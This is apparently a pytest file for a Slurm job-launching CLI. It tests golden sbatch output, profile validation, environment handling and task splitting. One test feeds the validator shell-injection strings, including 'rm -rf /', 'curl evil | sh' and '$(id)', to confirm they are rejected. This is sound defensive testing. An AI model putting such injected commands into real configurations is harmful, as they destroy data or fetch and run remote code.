"""Profiles: golden sbatch parameters per profile x model size; validation of bad profiles."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from webssl_cli.errors import UserError
from webssl_cli.launch.dag import array_chunks, shard_groups
from webssl_cli.launch.executors import sbatch_text, slurm_parameters
from webssl_cli.launch.profiles import available_profiles, load_profile, parse_profile

GOLDEN = Path(__file__).parent / "golden"
REPO = Path(__file__).resolve().parents[2]
PROFILES = sorted(p.stem for p in (REPO / "slurm").glob("*.yaml"))
SIZES = ["vit-test", "vit-small", "webdino-1b", "webdino-7b"]


def _check_golden(name: str, text: str) -> None:
    path = GOLDEN / name
    if os.environ.get("UPDATE_GOLDEN"):
        path.write_text(text)
    assert path.exists(), f"missing golden file {path}; run with UPDATE_GOLDEN=1"
    assert text == path.read_text(), (
        f"{name} differs from the golden file (UPDATE_GOLDEN=1 to accept)"
    )


@pytest.mark.parametrize("profile", PROFILES)
@pytest.mark.parametrize("job", [f"train-{s}" for s in SIZES] + ["filter", "eval"])
def test_sbatch_golden(profile: str, job: str) -> None:
    prof = load_profile(profile)
    kind, _, model = job.partition("-")
    dep = "afterok:100" if kind != "filter" else None
    params = slurm_parameters(prof, kind, model or None, job_name=f"webssl-{job}", dependency=dep)
    text = sbatch_text(
        params, folder="/submitit", command="/venv/bin/python -u -m submitit.core._submit /submitit"
    )
    _check_golden(f"{profile}.{job}.sbatch", text)


def test_profiles_found() -> None:
    assert {"local", "example-h100"} <= set(available_profiles())
    assert load_profile("local").max_parallel >= 1


def test_example_h100_sizes() -> None:
    p = load_profile("example-h100")
    assert p.train_resources("7B").nodes == 16  # aliases resolve
    assert p.train_resources("vit-test") == p.train["default"]


def _err(text: str) -> str:
    with pytest.raises(UserError) as e:
        parse_profile(text, "p.yaml", "p")
    msg = e.value.message
    assert "\n" not in msg
    return msg


def test_bad_profiles() -> None:
    assert "p.yaml:2: partitoin: unknown field" in _err("node: {gpus: 8}\npartitoin: gpu\n")
    assert 'did you mean "partition"' in _err("partitoin: gpu\n")
    msg = _err("node: {gpus: 4}\ntrain:\n  default: {gpus_per_node: 8}\n")
    assert "gpus_per_node = 8 but a node has 4 GPUs" in msg
    assert 'p.yaml:2: node.gpuz: unknown field (did you mean "gpus"?)' in _err(
        "max_nodes: 2\nnode: {gpuz: 8}\n"
    )
    assert "train.default.nodez: unknown field" in _err("train:\n  default: {nodez: 1}\n")
    assert "unknown model size 'vit-huge'" in _err("train:\n  vit-huge: {nodes: 1}\n")
    assert "exceeds max_nodes" in _err("train:\n  default: {nodes: 4}\n")
    assert "p.yaml:1: sbatch_extra:" in _err('sbatch_extra: ["--comment=x; rm -rf /"]\n')
    assert "shell would interpret" in _err('setup: ["module load cuda && curl evil | sh"]\n')
    assert "shell would interpret" in _err("partition: 'gpu$(id)'\n")
    assert "invalid YAML" in _err("partition: [gpu\n")
    with pytest.raises(UserError, match="cluster profile 'nope' not found"):
        load_profile("nope")


def test_device_and_dtype_reach_jobs_as_environment() -> None:
    import os

    from webssl_cli.launch.rounds import profile_env

    assert parse_profile("", "p.yaml", "p").job_env() == {}  # auto: the job's machine decides
    prof = parse_profile("device: cpu\ndtype: fp32\n", "p.yaml", "p")
    assert prof.job_env() == {"WEBSSL_DEVICE": "cpu", "WEBSSL_DTYPE": "fp32"}
    before = os.environ.get("WEBSSL_DEVICE")
    with profile_env(prof):
        assert os.environ["WEBSSL_DEVICE"] == "cpu" and os.environ["WEBSSL_DTYPE"] == "fp32"
    assert os.environ.get("WEBSSL_DEVICE") == before
    assert "p.yaml:1: device: Input should be 'auto', 'cpu' or 'cuda'" in _err("device: gpu\n")
    assert "p.yaml:2: dtype:" in _err("device: cpu\ndtype: fp16\n")


def test_arrays_split_at_max_array_size() -> None:
    assert shard_groups(10, 4) == [[0, 1, 2, 3], [4, 5, 6, 7], [8, 9]]
    chunks = array_chunks(2500, 1001)
    assert [len(c) for c in chunks] == [1001, 1001, 498]
    assert chunks[1][0] == 1001


def test_tasks_per_node() -> None:
    cpu = parse_profile(
        "node: {cpus: 8}\ntrain:\n  default: {tasks_per_node: 2, cpus_per_task: 1}\n", "p.yaml", "p"
    )
    assert slurm_parameters(cpu, "train")["ntasks_per_node"] == 2
    assert slurm_parameters(cpu, "eval")["ntasks_per_node"] == 1
    gpu = parse_profile("node: {gpus: 8}\ntrain:\n  default: {gpus_per_node: 8}\n", "p.yaml", "p")
    assert slurm_parameters(gpu, "train")["ntasks_per_node"] == 8  # one process per GPU
    assert "training runs one process per GPU" in _err(
        "node: {gpus: 8}\ntrain:\n  default: {gpus_per_node: 8, tasks_per_node: 4}\n"
    )
    assert "only training and evaluation run several processes" in _err(
        "filter: {tasks_per_node: 2}\n"
    )
    assert "4 CPUs per task x 3 tasks exceeds node.cpus = 8" in _err(
        "node: {cpus: 8}\ntrain:\n  default: {tasks_per_node: 3, cpus_per_task: 4}\n"
    )
